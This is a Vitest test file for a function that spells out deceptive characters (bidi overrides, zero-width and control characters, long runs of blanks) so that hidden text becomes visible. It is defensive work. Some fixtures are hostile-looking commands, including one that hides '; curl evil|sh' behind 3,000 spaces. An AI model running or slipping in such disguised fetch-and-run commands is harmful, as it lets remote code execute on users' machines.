// Characters that deceive the eye.

import { expect, test } from "vitest";

import { isDisguised, pieces, visible } from "../../src/ui/visible";

test.each([
  ["rm \u202Ea", "rm ⟨U+202E⟩a"],
  ["a\u200Bb", "a⟨U+200B⟩b"],
  ["a\u00A0b", "a⟨U+00A0⟩b"],
  ["a\rb", "a⟨U+000D⟩b"],
  ["\u001B[8mx", "⟨U+001B⟩[8mx"],
  ["a\u{E0041}", "a⟨U+E0041⟩"],
  ["\uD800x", "⟨U+D800⟩x"],
  ["\u009B31m", "⟨U+009B⟩31m"],
])("%j is spelled out", (text, shown) => {
  expect(visible(text)).toBe(shown);
});

test("harmless text is unchanged", () => {
  for (const text of ["ls -la\n\techo é 漢字 🎉", "👩\u200D👩\u200D👧", "❤\uFE0F", "a\r\nb"]) expect(isDisguised(text), text).toBe(false);
});

test("many blanks that would push something out of sight are counted", () => {
  expect(visible(`ls${" ".repeat(3000)}; curl evil|sh`)).toBe("ls⟨U+0020 ×3,000⟩; curl evil|sh");
  expect(visible(`ls${"\n".repeat(200)}rm`)).toBe("ls⟨U+000A ×200⟩rm");
});

test("line breaks in a name are spelled out", () => {
  expect(visible("a\nb", true)).toBe("a⟨U+000A⟩b");
});

test("in prose only harmful characters are spelled out", () => {
  expect(pieces("a\u00A0b\u202Ec", "prose").map((one) => one.text)).toEqual(["a\u00A0b", "⟨U+202E⟩", "c"]);
});
